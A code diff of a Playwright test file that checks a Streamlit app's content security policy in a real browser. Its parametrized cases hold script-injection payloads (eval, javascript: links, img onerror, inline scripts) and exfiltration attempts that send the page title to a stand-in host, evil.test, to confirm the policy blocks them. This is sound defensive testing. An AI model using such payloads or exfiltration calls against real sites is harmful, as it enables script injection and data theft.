@@ -1,14 +1,15 @@
-"""What a real browser makes of the pages: the policy holds, and nothing Streamlit needs is cut off."""
+"""A real browser: the policy holds, and nothing that Streamlit needs is cut off."""
 
 from __future__ import annotations
 
 from collections.abc import Iterator
+from pathlib import Path
 from urllib.parse import urlsplit
 
 import pytest
 from playwright.sync_api import Browser, Page, Request, expect
 
-from tests.components.server.conftest import Server
+from tests.components.server.conftest import Server, running
 
 pytestmark = pytest.mark.browser
 
@@ -30,8 +31,11 @@ class Visit:
     def __init__(self, page: Page) -> None:
         self.page = page
         self.requests: list[Request] = []
-        page.on("requestfinished", lambda request: self.requests.append(request))
+        page.on("requestfinished", self._finished)
         page.add_init_script(WATCH)
+
+    def _finished(self, request: Request) -> None:
+        self.requests.append(request)
 
     def stopped(self) -> list[str]:
         """Return what the policy kept from happening."""
@@ -50,7 +54,7 @@ class Visit:
 
 @pytest.fixture
 def visit(browser: Browser) -> Iterator[Visit]:
-    """A page that has not gone anywhere yet."""
+    """Open a page that has not gone anywhere yet."""
     context = browser.new_context(viewport={"width": 390, "height": 800}, locale="en-GB")
     yield Visit(context.new_page())
     context.close()
@@ -58,7 +62,7 @@ def visit(browser: Browser) -> Iterator[Visit]:
 
 @pytest.fixture
 def room(visit: Visit, server: Server) -> Visit:
-    """A phone in the room."""
+    """Bring a phone into the room."""
     visit.page.goto(f"{server.url}/room")
     expect(visit.page.locator(".drawn")).to_have_text("drawn", timeout=PATIENCE)
     return visit
@@ -76,8 +80,12 @@ def test_trainers_page_draws_everything_and_nothing_is_stopped(
 
     expect(visit.page.get_by_role("button", name="Last")).to_be_visible(timeout=PATIENCE)
     expect(visit.page.locator(".js-plotly-plot .bars path").first).to_be_visible(timeout=PATIENCE)
-    expect(visit.page.locator("[data-testid=stGraphVizChart] svg .edge").first).to_be_visible(timeout=PATIENCE)
-    expect(visit.page.locator("[data-testid=stImage] img, [data-testid=stImage] svg").first).to_be_visible(timeout=PATIENCE)
+    expect(visit.page.locator("[data-testid=stGraphVizChart] svg .edge").first).to_be_visible(
+        timeout=PATIENCE
+    )
+    expect(
+        visit.page.locator("[data-testid=stImage] img, [data-testid=stImage] svg").first
+    ).to_be_visible(timeout=PATIENCE)
     assert visit.stopped() == []
 
 
@@ -106,7 +114,7 @@ def test_page_asks_for_each_file_once(room: Visit) -> None:
 def test_every_address_that_a_page_asks_for_exists(room: Visit) -> None:
     answers = [request.response() for request in room.requests]
 
-    assert [answer.url for answer in answers if answer and answer.status >= 400] == []  # noqa: PLR2004
+    assert [answer.url for answer in answers if answer and answer.status >= 400] == []
 
 
 def test_second_visit_fetches_next_to_nothing(room: Visit) -> None:
@@ -122,16 +130,18 @@ def test_page_says_its_name_and_language(room: Visit) -> None:
     assert room.page.locator("html").get_attribute("lang") == "en"
 
 
+SCRIPT = "const s = document.createElement('script'); document.body.append(s);"
+LINK = "const a = document.createElement('a'); document.body.append(a);"
+PICTURE = "const i = new Image(); i.onload = () => done('out'); i.onerror = () => done('stopped');"
+
+
 @pytest.mark.parametrize(
     "attack",
     [
-        "const s = document.createElement('script'); s.textContent = 'window.hit = 1';"
-        "document.body.append(s)",
-        "const s = document.createElement('script'); s.src = 'data:,window.hit = 1';"
-        "document.body.append(s)",
+        f"{SCRIPT} s.textContent = 'window.hit = 1'",
+        f"{SCRIPT} s.src = 'data:,window.hit = 1'",
+        f"{LINK} a.href = 'javascript:window.hit = 1'; a.click()",
         "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hit = 1\">')",
-        "const a = document.createElement('a'); a.href = 'javascript:window.hit = 1';"
-        "document.body.append(a); a.click()",
         "eval('window.hit = 1')",
         "new Function('window.hit = 1')()",
         "setTimeout('window.hit = 1', 0)",
@@ -150,8 +160,7 @@ def test_script_that_gets_into_a_page_does_not_run(room: Visit, attack: str) -> 
     "attempt",
     [
         "() => fetch('https://evil.test/?' + document.title).then(() => 'out', () => 'stopped')",
-        "() => new Promise((done) => { const i = new Image(); i.onerror = () => done('stopped');"
-        " i.onload = () => done('out'); i.src = 'https://evil.test/x.png'; })",
+        f"() => new Promise((done) => {{ {PICTURE} i.src = 'https://evil.test/x.png' }})",
     ],
 )
 def test_nothing_of_a_page_can_be_sent_elsewhere(room: Visit, attempt: str) -> None:
@@ -166,13 +175,21 @@ def test_page_cannot_be_framed(visit: Visit, server: Server) -> None:
     assert visit.page.frames[1].locator("#root").count() == 0
 
 
-def test_server_that_goes_away_leaves_a_phone_without_english_dialogs(
-    visit: Visit, server: Server
+@pytest.mark.slow
+def test_server_that_goes_away_shows_a_phone_no_dialog_of_streamlits(
+    browser: Browser, tmp_path: Path
 ) -> None:
-    # The background check of the server fails, as it does for a phone that lost its network.
-    visit.page.route("**/_stcore/health", lambda route: route.abort())
-    visit.page.goto(f"{server.url}/room")
-    expect(visit.page.locator(".drawn")).to_have_text("drawn", timeout=PATIENCE)
-    visit.page.wait_for_timeout(3000)
+    home, phone = browser.new_page(), browser.new_page()
+    with running(tmp_path) as server:
+        home.goto(f"{server.url}/")
+        expect(home.get_by_test_id("stMarkdown")).to_be_visible(timeout=PATIENCE)
+        phone.goto(f"{server.url}/room")
+        expect(phone.locator(".drawn")).to_have_text("drawn", timeout=PATIENCE)
 
-    expect(visit.page.get_by_role("dialog")).to_have_count(0)
+    # Both have been trying for as long by now.
+    expect(home.get_by_role("dialog")).to_contain_text("Connection error", timeout=PATIENCE)
+    phone.wait_for_timeout(2000)
+
+    expect(phone.get_by_role("dialog")).to_have_count(0)
+    home.close()
+    phone.close()
